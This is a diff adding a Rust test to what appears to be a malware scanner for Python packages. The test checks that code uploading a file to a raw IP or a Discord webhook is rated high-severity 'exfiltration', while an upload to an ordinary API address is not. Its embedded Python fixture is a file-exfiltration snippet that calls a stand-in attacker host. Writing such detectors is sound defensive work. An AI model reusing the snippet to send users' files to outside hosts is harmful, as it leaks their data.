@@ -2433,3 +2433,24 @@ fn an_install_command_that_fetches_and_imports_a_dependency_runs_it() {
         assert_eq!(severity_of("pkg/commands.py", &src, "download-then-run"), None, "{src}");
     }
 }
+
+/// A file uploaded (`files=`) to a raw IP, a paste site, a webhook or a
+/// tunnel goes where the author reads it, sent by `requests` or by a client
+/// object (`httpx.AsyncClient().post`), with the address written in the
+/// call or kept in a module variable: high. The same upload to an ordinary
+/// address is a client's work. Both front-ends. Written for the test.
+#[test]
+fn a_file_uploaded_to_an_authors_host_is_exfiltration() {
+    let client = "import httpx\nCHECK = 'http://203.0.113.7:8000/check'\nasync def check(path):\n    \
+                  async with httpx.AsyncClient(timeout=30) as client:\n        \
+                  with open(path, 'rb') as f:\n            \
+                  await client.post(CHECK, files={'file': (path, f)})\n";
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{client}{tail}");
+        assert_eq!(severity_of("lib/core.py", &src, "exfiltration"), Some(Severity::High), "{src}");
+        let ordinary = src.replace("http://203.0.113.7:8000/check", "https://api.example.org/check");
+        assert_eq!(severity_of("lib/core.py", &ordinary, "exfiltration"), None, "{ordinary}");
+        let hook = src.replace("http://203.0.113.7:8000/check", "https://discord.com/api/webhooks/1/x");
+        assert_eq!(severity_of("lib/core.py", &hook, "exfiltration"), Some(Severity::High), "{hook}");
+    }
+}
